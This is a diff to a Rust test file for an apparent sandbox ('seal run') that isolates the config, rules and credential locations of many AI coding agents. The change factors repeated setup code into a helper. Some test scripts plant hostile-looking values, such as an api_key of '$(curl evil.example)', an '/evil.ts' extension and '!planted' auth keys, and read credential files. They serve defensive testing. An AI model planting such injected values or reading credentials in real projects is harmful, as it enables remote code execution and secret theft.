@@ -31,6 +31,21 @@ fn assert_served_once_pinned(w: &World, files: &[(&str, &str)]) {
     assert_eq!(out, want, "{err}");
 }
 
+/// Writes `files` into the project (unpinned) and returns a shell line
+/// that prints `shown: PATH` for each one a run shows: one that exists
+/// (`test` `-e`), or one with content (`-s`, where a scratch layer leaves
+/// empty placeholders for the names an agent loads).
+fn unpinned_shown(w: &World, files: &[(&str, &str)], test: &str) -> String {
+    for (path, text) in files {
+        write(&w.project.join(path), text);
+    }
+    let names: Vec<&str> = files.iter().map(|(path, _)| *path).collect();
+    format!(
+        r#"for f in {}; do [ {test} "$f" ] && echo "shown: $f"; done"#,
+        names.join(" ")
+    )
+}
+
 /// Runs `plants` (shell lines, each `try NAME 'COMMAND'` or a line that
 /// prints nothing) in one `seal run` and asserts that each of the `count`
 /// tries was refused.
@@ -741,10 +756,7 @@ fn factory_cline_kilo_antigravity_zed_and_jetbrains_locations_are_sealed() {
         ("CONTEXT.md", "UNPINNED CONTEXT"),
         (".kilocoderules", "UNPINNED KILO RULES"),
     ];
-    for (path, text) in unpinned {
-        write(&p.join(path), text);
-    }
-    let names: Vec<&str> = unpinned.iter().map(|(path, _)| *path).collect();
+    let shown = unpinned_shown(&w, &unpinned, "-e");
     let script = format!(
         r#"
         echo "[$(cat ~/.factory/settings.json)][$(ls -A ~/.factory/droids)$(cat ~/.factory/AGENTS.md)][$(cat ~/.factory/config.json)]"
@@ -753,10 +765,10 @@ fn factory_cline_kilo_antigravity_zed_and_jetbrains_locations_are_sealed() {
         echo "[$(ls -A ~/.config/kilo/agent)$(ls -A ~/.kilo/rules)$(cat ~/.config/kilo/kilo.json)]"
         mkdir -p ~/.local/share/kilo && echo state > ~/.local/share/kilo/kilo.db
         mkdir -p ~/.cline/data/db && echo state > ~/.cline/data/db/sessions.db
-        for f in {}; do [ -e "$f" ] && echo "shown: $f"; done
+        {}
         echo end
     "#,
-        names.join(" ")
+        shown
     );
     let (code, out, err) = w.run_sh(&script, &[]);
     assert_eq!(code, 0, "{err}");
@@ -925,26 +937,22 @@ fn continue_cli_locations_are_sealed() {
     );
     write(&w.home.join(".continue/permissions.yaml"), "allow: [Bash]");
     write(&w.home.join(".continue/settings.json"), r#"{"hooks": {}}"#);
-    let p = &w.project;
     let unpinned = [
         ("CODEX.md", "UNPINNED CODEX"),
         ("pkg/CODEX.md", "UNPINNED PKG CODEX"),
         (".continue/skills/s/SKILL.md", "UNPINNED CONTINUE SKILL"),
     ];
-    for (path, text) in unpinned {
-        write(&p.join(path), text);
-    }
-    let names: Vec<&str> = unpinned.iter().map(|(path, _)| *path).collect();
+    let shown = unpinned_shown(&w, &unpinned, "-e");
     let script = format!(
         r#"
         cat ~/.continue/config.yaml
         echo "[$(ls -A ~/.continue/rules)$(ls -A ~/.continue/skills)$(cat ~/.continue/permissions.yaml ~/.continue/settings.json)]"
         echo "$CONTINUE_GLOBAL_DIR $CONTINUE_API_BASE"
         mkdir -p ~/.continue/sessions && echo state > ~/.continue/sessions/s.json
-        for f in {}; do [ -e "$f" ] && echo "shown: $f"; done
+        {}
         echo end
     "#,
-        names.join(" ")
+        shown
     );
     let (code, out, err) = w.run_sh(&script, &[]);
     assert_eq!(code, 0, "{err}");
@@ -1015,7 +1023,6 @@ fn places_of_agents_known_from_their_sources_are_sealed() {
     write(&h.join(".vibe/tools/t.py"), "VIBE USER TOOL");
     write(&h.join(".gitlab/duo/chat-rules.md"), "DUO USER RULES");
     write(&h.join(".agents/agents/a.md"), "USER AGENT");
-    let p = &w.project;
     let unpinned = [
         ("CODEBUDDY.md", "UNPINNED CODEBUDDY"),
         ("pkg/IFLOW.md", "UNPINNED IFLOW"),
@@ -1026,19 +1033,16 @@ fn places_of_agents_known_from_their_sources_are_sealed() {
         (".gitlab/duo/mcp.json", "UNPINNED DUO MCP"),
         (".devin/hooks.v1.json", "UNPINNED DEVIN HOOKS"),
     ];
-    for (path, text) in unpinned {
-        write(&p.join(path), text);
-    }
-    let names: Vec<&str> = unpinned.iter().map(|(path, _)| *path).collect();
+    let shown = unpinned_shown(&w, &unpinned, "-s");
     let script = format!(
         r#"
         echo "[$(cat ~/.codebuddy/CODEBUDDY.md ~/.hermes/SOUL.md ~/.kimi-code/AGENTS.md)$(ls -A ~/.codebuddy/skills)$(ls -A ~/.qoder/rules)$(ls -A ~/.vibe/tools)$(ls -A ~/.gitlab/duo)$(ls -A ~/.agents/agents)]"
         cat ~/.codebuddy/settings.json; echo
         cat ~/.codebuddy/.credentials.json; echo
-        for f in {}; do [ -s "$f" ] && echo "shown: $f"; done
+        {}
         echo end
     "#,
-        names.join(" ")
+        shown
     );
     let (code, out, err) = w.run_sh(&script, &[]);
     assert_eq!(code, 0, "{err}");
@@ -1099,17 +1103,13 @@ fn crush_locations_are_sealed() {
     write(&w.home.join(".crush/commands/c.md"), "CRUSH USER COMMAND");
     let data = w.home.join(".local/share/crush/crush.json");
     write(&data, r#"{"models": {"large": {"model": "m"}}}"#);
-    let p = &w.project;
     let unpinned = [
         ("crushrc", "UNPINNED CRUSHRC"),
         ("pkg/.crushrc", "UNPINNED PKG CRUSHRC"),
         (".crush/crush.json", "UNPINNED WORKSPACE CONFIG"),
         (".crush/commands/c.md", "UNPINNED CRUSH COMMAND"),
     ];
-    for (path, text) in unpinned {
-        write(&p.join(path), text);
-    }
-    let names: Vec<&str> = unpinned.iter().map(|(path, _)| *path).collect();
+    let shown = unpinned_shown(&w, &unpinned, "-s");
     let script = format!(
         r#"
         c=~/.config/crush
@@ -1117,10 +1117,10 @@ fn crush_locations_are_sealed() {
         echo "[$(cat $c/crushrc $c/CRUSH.md ~/.config/AGENTS.md)$(ls -A $c/skills)$(ls -A ~/.crush/commands)]"
         echo "$CRUSH_CLIENT_SERVER"
         echo '{{"models": {{"large": {{"model": "m2"}}}}, "providers": {{"x": {{"api_key": "$(curl evil.example)"}}}}}}' > ~/.local/share/crush/crush.json
-        for f in {}; do [ -s "$f" ] && echo "shown: $f"; done
+        {}
         echo end
     "#,
-        names.join(" ")
+        shown
     );
     let (code, out, err) = w.run_sh(&script, &[("CRUSH_CLIENT_SERVER", Path::new("1"))]);
     assert_eq!(code, 0, "{err}");
@@ -1194,17 +1194,13 @@ fn pi_locations_are_sealed() {
         &agent.join("auth.json"),
         r#"{"a": {"type": "api_key", "key": "k"}, "b": {"type": "api_key", "key": "!evil"}}"#,
     );
-    let p = &w.project;
     let unpinned = [
         (".pi/extensions/x/index.ts", "UNPINNED PI EXTENSION"),
         (".pi/settings.json", "UNPINNED PI SETTINGS"),
         (".pi/SYSTEM.md", "UNPINNED PI SYSTEM"),
         ("pkg/AGENTS.MD", "UNPINNED AGENTS MD"),
     ];
-    for (path, text) in unpinned {
-        write(&p.join(path), text);
-    }
-    let names: Vec<&str> = unpinned.iter().map(|(path, _)| *path).collect();
+    let shown = unpinned_shown(&w, &unpinned, "-s");
     let script = format!(
         r#"
         a=~/.pi/agent
@@ -1217,10 +1213,10 @@ fn pi_locations_are_sealed() {
         echo '{{"defaultModel": "m2", "extensions": ["/evil.ts"]}}' > $a/settings.json
         echo '{{"a": {{"type": "api_key", "key": "k2"}}, "c": {{"type": "api_key", "key": "!planted"}}}}' > $a/auth.json
         # Empty placeholders stand for the names Pi loads in `.pi`.
-        for f in {}; do [ -s "$f" ] && echo "shown: $f"; done
+        {}
         echo end
     "#,
-        names.join(" ")
+        shown
     );
     let (code, out, err) = w.run_sh(&script, &[("JITI_FS_CACHE", Path::new("true"))]);
     assert_eq!(code, 0, "{err}");
